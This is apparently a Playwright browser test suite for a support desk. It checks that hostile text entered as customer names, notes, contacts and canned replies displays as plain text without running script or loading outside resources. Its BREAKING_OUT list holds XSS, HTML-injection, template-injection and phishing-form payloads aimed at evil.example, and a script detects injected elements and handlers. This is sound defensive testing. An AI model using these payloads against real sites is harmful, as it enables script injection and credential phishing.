"""What customers write, wherever the desk shows it, in a browser: it is text, it runs nothing, it moves nothing."""

from __future__ import annotations

import json
import os
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from bot.core.agents import Agent, Role
from bot.core.conversations import Author, clean_text
from tests.browser.desk_page import (
    BEN,
    WAIT_MS,
    Open,
    ana,
    ben,
    desk,
    lines,
    open_at,
    open_desk,
    row,
    stands,
)
from tests.browser.desk_people import proven, stored, to_call_back, understood, with_history
from tests.browser.desk_window import DeskWindow
from tests.gateway.hostile import HOSTILE, INJECTION

__all__ = ["ana", "ben", "desk", "open_desk"]

pytestmark = pytest.mark.browser

NAUGHTY = json.loads(Path(os.environ["NAUGHTY_STRINGS"]).read_text()) if os.environ.get("NAUGHTY_STRINGS") else []
# What has broken out of attributes, texts, addresses, selectors and templates of other pages.
BREAKING_OUT = [
    "<img src=x onerror=window.hit=1>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<details open ontoggle=window.hit=1>",
    "<style>*{display:none!important}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<form action=https://evil.example><button>Sign in again</button></form>",
    "<dialog open>Your session is over</dialog>",
    "</script><script>window.hit=1</script>",
    "</title></style></textarea></noscript><script>window.hit=1</script>",
    "'\"><a href=javascript:window.hit=1>x</a>",
    '" autofocus onfocus=window.hit=1 x="',
    "' style=position:fixed;inset:0 x='",
    "javascript:window.hit=1//",
    "https://shop.example@evil.example/",
    'https://evil.example/"onmouseover=window.hit=1//',
    "http://[::1",
    "//evil.example",
    "`${window.hit=1}`",
    "{{constructor.constructor('window.hit=1')()}}",
    "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "]\"]'),*[x='",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "{name} {order} {agent} $& $1 $`",
    "\u202etxt.exe\u2066",
    "x" * 300,
    "\u0e47" * 80,
    "\U0001f469\u200d\U0001f4bb" * 60,
]
# Nothing of customers is an element, nor the name of anything, nor an attribute that does or loads something.
STRANGE = """() => {
  const kinds = 'script, style, iframe, object, embed, base, form, dialog[open], img, svg animate, meta';
  const odd = [...document.querySelectorAll(kinds)]
    .filter(node => !(node.matches("script[src^='/static/'], meta[name], meta[charset]")
      || (node.matches('form') && ['signin-form', 'password-form', 'search', 'composer'].includes(node.id))
      || node.matches('.span-form')));
  const does = ({ name, value }) => name.startsWith('on') || name === 'style' && /fixed|inset/.test(value)
    || /^(href|src|action)$/.test(name) && /^\\s*javascript:/i.test(value);
  const acts = [...document.querySelectorAll('*')].filter(node => [...node.attributes].some(does));
  return [...odd, ...acts].map(node => node.outerHTML.slice(0, 200));
}"""

# What is in each place, with everything opened that can be.
SHOWN = """() => {
  const closed = '[data-testid=understood-toggle][aria-expanded=false], .order:not([open]) summary';
  for (const node of document.querySelectorAll(closed)) node.click();
  const places = ['panel-name', 'panel-why', 'panel-contact', 'panel-feedback', 'panel-notes', 'panel-orders', 'note'];
  return Object.fromEntries(places.map(name =>
    [name, document.querySelector(`[data-testid=${name}]`)?.textContent.replace(/\\s+/g, ' ') ?? '']));
}"""


def plain(text: str) -> str:
    return re.sub(r"\s+", " ", clean_text(text)).strip()


def is_harmless(page: Page) -> None:
    assert page.evaluate(STRANGE) == []
    assert page.evaluate("window.hit") is None
    assert page.evaluate("({}).polluted") is None
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert page.url.startswith("http://127.0.0.1:")


@pytest.fixture
def page(open_desk: Open) -> Iterator[Page]:
    """The desk of an admin, in which whatever is loaded from elsewhere is noted."""
    opened = open_desk(BEN)
    loaded: list[str] = []
    opened.on("request", lambda request: loaded.append(request.url))
    yield opened
    own = re.compile(r"^(https?|wss?)://127\.0\.0\.1:\d+/|^(blob|data):")
    assert [url for url in loaded if not own.match(url)] == []


def test_a_customer_of_hostile_words_is_shown_as_such_in_every_place(desk: DeskWindow, page: Page, ana: Agent) -> None:
    chats: dict[str, str] = {}
    for number, text in enumerate(map(clean_text, BREAKING_OUT)):
        chat = desk.customer(text, details={"name": text, "email": text, text[:40]: text})
        desk.wants_a_person(chat, topic=text[:40], language="tl", summary={"wish": text, text[:40]: text})
        customer = stored(desk, name=text, phone=None, email=f"n{number}@example.com", address=text[:500])
        with_history(desk, customer, text, f"TC-{30_000 + number}")
        proven(desk, chat, customer)
        desk.claim(ana, chat)
        desk.note(ana, chat, text)
        if text[:40].strip().isprintable():
            desk.label(chat, text[:40])
        understood(desk, chat, 1, text[:40], 0.5)

        chats[chat] = text

    for chat, text in chats.items():
        open_at(page, chat)
        expect(page.get_by_test_id("thread-name")).to_have_text(plain(text), timeout=WAIT_MS)
        shown = page.evaluate(SHOWN)
        # An address is a link, which says that it opens elsewhere.
        assert plain(text).split("http")[0] in shown.pop("note")
        assert plain(text[:100]) in shown.pop("panel-orders")
        assert {place: plain(text) in words for place, words in shown.items()} == dict.fromkeys(shown, True)
        is_harmless(page)
    page.get_by_test_id("tab-search").click()
    for number, (chat, text) in enumerate(chats.items()):
        if number % 4 == 0:
            page.get_by_test_id("search").fill(plain(text)[:60])
            expect(row(page, chat).locator(".row-name")).to_have_text(plain(text), timeout=WAIT_MS)
            is_harmless(page)


def test_hostile_contacts_and_wishes_are_text_in_the_call_backs_and_in_teaching(
    desk: DeskWindow, page: Page, ana: Agent
) -> None:
    marked = [text for text in map(clean_text, [*BREAKING_OUT[:14], *INJECTION]) if text]
    chat = desk.customer(*marked, details={"name": "Tess"})
    to_call_back(desk, chat, BREAKING_OUT[0])
    open_at(page, chat)
    expect(page.get_by_test_id("panel-why")).to_contain_text(BREAKING_OUT[0])
    for message in desk.messages(chat):
        if message.author is Author.CUSTOMER:
            desk.teach(ana, chat, message.seq, "greet")
            desk.ask(ana, chat, message.text)
    page.goto(f"{desk.address}/desk#/teaching")
    for place in ("teaching", "knowledge"):
        cells = page.get_by_test_id(place).locator("tbody th")
        expect(cells).to_have_count(len(marked), timeout=WAIT_MS)
        assert sorted(map(plain, cells.all_text_contents())) == sorted(map(plain, marked))
    is_harmless(page)


def test_hostile_colleagues_and_canned_replies_are_text(desk: DeskWindow, page: Page, ana: Agent) -> None:
    names = [text[:80] for text in BREAKING_OUT if text[:80].isprintable() and text.strip()][:20]
    for number, name in enumerate(names):
        desk.hire(f"odd{number}@corner.example", name, Role.AGENT)
        desk.canned(ana, f"odd{number}", name)
    page.goto(f"{desk.address}/desk#/agents")
    people = page.get_by_test_id("agents")
    expect(people.get_by_role("row")).to_have_count(len(names) + 3, timeout=WAIT_MS)
    for name in names:
        expect(people.get_by_text(plain(name), exact=True)).to_be_visible()
    is_harmless(page)
    page.goto(f"{desk.address}/desk#/canned")
    expect(page.get_by_test_id("canned-item")).to_have_count(len(names), timeout=WAIT_MS)
    is_harmless(page)
    page.goto(f"{desk.address}/desk#/reports")
    expect(page.get_by_test_id("definitions")).to_be_visible(timeout=WAIT_MS)
    is_harmless(page)

    chat = desk.customer("Hello", details={"name": BREAKING_OUT[0]})
    open_at(page, chat)
    page.get_by_test_id("action-takeover").click()
    stands(page, "With you")
    expect(page.get_by_test_id("text")).to_be_focused()
    for number in range(0, len(names), 4):
        page.get_by_test_id("text").press_sequentially(f"/odd{number}")
        page.get_by_test_id("canned-option").first.click()
        page.get_by_test_id("text").press("Enter")
    expect(lines(page, "agent")).to_have_count(len(range(0, len(names), 4)), timeout=WAIT_MS)
    is_harmless(page)


def test_what_others_collected_is_text_as_a_name_and_as_the_last_words(desk: DeskWindow, page: Page) -> None:
    """Many at once in the lists, where a row is a name and the end of what was said."""
    texts = list(dict.fromkeys(text for text in map(clean_text, [*HOSTILE, *NAUGHTY]) if text and len(text) <= 200))
    chats = {desk.customer(text, details={"name": text}): text for text in texts[:: len(texts) // 45 + 1]}
    page.get_by_test_id("tab-bot").click()
    for chat, text in chats.items():
        expect(row(page, chat).locator(".row-name")).to_have_text(plain(text) or "Visitor", timeout=WAIT_MS)
    is_harmless(page)
